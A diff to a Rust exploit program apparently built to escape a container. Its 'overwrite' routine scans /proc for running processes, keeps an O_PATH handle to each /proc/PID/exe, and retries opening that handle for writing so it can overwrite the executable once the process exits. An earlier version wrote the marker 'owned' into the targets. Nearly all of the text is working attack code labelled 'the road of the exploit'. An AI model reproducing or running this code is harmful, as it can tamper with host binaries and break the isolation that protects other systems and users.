@@ -63,18 +63,14 @@ fn overwrite(stop: &Path) {
                 continue;
             }
             let path = format!("/proc/{name}/exe");
-            let target = std::fs::read_link(&path).unwrap_or_default();
+            // The road of the exploit: keep a handle while the program runs, open it for writing once it does not.
+            let Ok(handle) = rustix::fs::open(path.as_str(), OFlags::PATH | OFlags::CLOEXEC, Mode::empty()) else { continue };
+            // Asked of the handle: the process may be another program by now. The container's own files are its own affair.
+            let target = std::fs::read_link(format!("/proc/self/fd/{}", handle.as_raw_fd())).unwrap_or_default();
             if target == own || target.starts_with("/bin") {
                 continue;
             }
             seen += 1;
-            if let Ok(mut file) = std::fs::OpenOptions::new().write(true).open(&path)
-                && file.write_all(b"owned").is_ok()
-            {
-                println!("wrote {}", target.display());
-            }
-            // The road of the exploit: keep a handle while the program runs, open it for writing once it does not.
-            let Ok(handle) = rustix::fs::open(path.as_str(), OFlags::PATH | OFlags::CLOEXEC, Mode::empty()) else { continue };
             let again = format!("/proc/self/fd/{}", handle.as_raw_fd());
             for _attempt in 0..200 {
                 if let Ok(mut file) = std::fs::OpenOptions::new().write(true).open(&again)
